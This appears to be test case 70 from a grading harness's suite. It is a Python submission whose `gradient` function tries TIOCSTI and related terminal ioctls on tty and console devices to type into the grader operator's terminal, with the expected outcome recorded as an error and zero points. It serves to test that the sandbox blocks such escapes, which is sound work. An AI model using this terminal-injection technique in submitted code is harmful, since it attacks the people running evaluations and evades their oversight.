# 70. Types into the terminal of whoever runs the grader.
# ends: error
# points: 0
import fcntl
import os

TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x541D


def gradient(x):
    fds = [0, 1, 2]
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/ptmx"):
        try:
            fds.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
        except OSError:
            pass
    for fd in fds:
        for request in (TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS):
            try:
                fcntl.ioctl(fd, request, b"\n")
            except OSError:
                continue
            print(hex(request), "got through on", fd)
            return 3 * x**2
    raise PermissionError("there is no terminal")
